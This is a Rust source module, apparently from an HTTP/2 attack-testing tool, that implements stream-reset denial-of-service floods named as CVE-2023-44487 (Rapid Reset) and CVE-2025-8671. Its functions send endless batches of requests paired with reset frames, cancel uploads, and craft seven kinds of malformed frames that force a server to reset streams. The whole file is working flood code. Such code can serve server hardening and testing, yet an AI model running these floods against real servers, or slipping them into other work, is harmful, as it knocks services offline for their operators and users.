//! Streams that are opened in order to be reset: by the client (CVE-2023-44487) or, because the client breaks a rule,
//! by the server (CVE-2025-8671).

use std::sync::Arc;

use super::frames::{
    DATA, END, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PRIORITY, block, frame, get, greeting, post, rst, window,
};
use super::site::LARGE;
use super::stage::Stage;
use super::wire::attack;

/// Streams in one write.
const BATCH: u32 = 50;

/// Request and reset at once.
pub(crate) async fn rapid(stage: &Arc<Stage>) {
    flood(stage, &[], |stream| [get(stream, LARGE.path), rst(stream)].concat()).await;
}

/// Each stream is reset as soon as its response begins.
pub(crate) async fn once_answered(stage: &Arc<Stage>) {
    attack(stage, 4, true, greeting(&[]), async |wire| {
        let mut stream = 1;
        loop {
            let streams: Vec<u32> = (0..20).map(|n| stream + 2 * n).collect();
            let requests: Vec<u8> = streams.iter().flat_map(|stream| get(*stream, LARGE.path)).collect();
            wire.send(&requests).await?;
            let mut heads = 0;
            while heads < streams.len() {
                heads += usize::from(wire.next().await?.kind == HEADERS);
            }
            let resets: Vec<u8> = streams.iter().flat_map(|stream| rst(*stream)).collect();
            wire.send(&resets).await?;
            stream += 40;
        }
    })
    .await;
}

/// An upload that is cancelled.
pub(crate) async fn uploads(stage: &Arc<Stage>) {
    flood(stage, &[], |stream| [post(stream, "/upload", &[]), rst(stream)].concat()).await;
}

/// The ways to make a server reset.
#[derive(Clone, Copy)]
pub(crate) enum Made {
    WindowOverflow,
    ZeroIncrement,
    DataAfterEnd,
    SecondHead,
    ContentLength,
    Priority,
    MalformedHead,
}

pub(crate) async fn made(stage: &Arc<Stage>, how: Made) {
    let settings = [(INITIAL_WINDOW_SIZE, 0)];
    flood(stage, &settings, |stream| {
        let request = get(stream, LARGE.path);
        match how {
            Made::WindowOverflow => [request, window(stream, (1 << 31) - 1).repeat(2)].concat(),
            Made::ZeroIncrement => [request, window(stream, 0)].concat(),
            Made::DataAfterEnd => [request, frame(DATA, END, stream, b"more")].concat(),
            Made::SecondHead => [request.clone(), request].concat(),
            Made::ContentLength => {
                [post(stream, "/upload", &[("content-length", "1")]), frame(DATA, END, stream, b"more")].concat()
            }
            Made::Priority => {
                [request, frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[0]].concat())].concat()
            }
            Made::MalformedHead => {
                let block = block("GET", "/", &[("connection", "close")]);
                frame(HEADERS, END | END_HEADERS, stream, &block)
            }
        }
    })
    .await;
}

async fn flood(stage: &Arc<Stage>, settings: &[(u16, u32)], one: impl Fn(u32) -> Vec<u8>) {
    attack(stage, 4, true, greeting(settings), async |wire| {
        let mut stream = 1;
        loop {
            let batch: Vec<u8> = (0..BATCH).flat_map(|n| one(stream + 2 * n)).collect();
            wire.send(&batch).await?;
            stream += 2 * BATCH;
        }
    })
    .await;
}
